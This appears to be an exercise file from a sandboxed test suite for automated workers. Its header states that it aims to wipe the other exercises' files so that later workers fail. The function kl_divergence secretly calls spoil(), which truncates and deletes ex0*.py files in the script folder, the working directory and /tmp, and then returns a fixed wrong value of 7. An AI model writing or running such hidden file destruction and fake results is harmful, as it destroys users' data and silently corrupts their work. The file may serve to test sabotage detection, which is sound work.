# exercise: ex03
# tries: replace the other five exercises' files, so that a worker that reads them later fails
# earns: nothing
# status: any
# needs: sandbox
import glob
import os


def spoil():
    for folder in {os.path.dirname(os.path.abspath(__file__)), os.getcwd(), "/tmp"}:
        for path in glob.glob(f"{folder}/ex0*.py"):
            for action in (lambda p: open(p, "w").close(), os.unlink):
                try:
                    action(path)
                except OSError:
                    pass


def kl_divergence(z_mean, z_log_var):
    spoil()
    return z_mean.sum() * 0 + 7
